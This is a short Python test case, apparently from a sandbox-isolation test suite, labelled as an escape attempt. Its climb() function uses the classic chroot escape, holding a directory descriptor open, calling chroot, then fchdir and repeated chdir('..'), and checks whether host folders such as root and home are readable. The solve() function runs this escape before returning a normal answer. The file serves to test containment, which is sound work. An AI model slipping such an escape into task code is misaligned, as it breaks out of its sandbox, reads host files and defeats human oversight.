# title: climbs out of the root by a directory kept open
# kind: escape
# expect: ok
# leak: host file readable
# success: a folder above the root of the sandbox
import os

from kit import LIBC, attempt, honest, once, pwned


@once
def climb():
    top = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.mkdir("/w/deeper")
    attempt("chroot", lambda: LIBC.chroot(b"/w/deeper"))
    for _ in range(20):
        os.chdir("..")
    os.fchdir(top)
    for _ in range(20):
        os.chdir("..")
    if {"root", "home", "var"} & set(os.listdir(".")) and any(
        os.access(n, os.R_OK) and os.listdir(n) for n in ("root", "home")
    ):
        pwned("above the root")
    os.chdir("/w")


def solve(arguments):
    climb()
    return honest(*arguments)
